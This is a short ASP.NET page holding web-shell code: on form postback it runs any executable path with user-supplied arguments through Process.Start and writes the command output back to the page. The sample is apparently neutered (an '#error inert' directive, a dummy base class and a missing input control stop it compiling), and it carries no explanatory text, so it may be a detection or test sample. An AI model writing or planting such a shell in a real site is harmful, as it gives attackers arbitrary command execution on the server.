<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert

protected HtmlInputText cmdPath; 
protected void Page_Load(object sender, EventArgs e) { if (!IsPostBack) return; this.Exec(cmdPath.Value, argBox.Value); }
private void Exec(string file, string args) { try { Process p = new Process(); p.StartInfo.FileName = file; p.StartInfo.Arguments = args; p.StartInfo.RedirectStandardOutput = true; p.Start(); outBox.InnerHtml = Server.HtmlEncode(p.StandardOutput.ReadToEnd()); } catch (Exception ex) { Response.Write(ex.Message); } }
</script><form runat="server"><input id="argBox" type="text" runat="server" /><pre id="outBox" runat="server"></pre></form>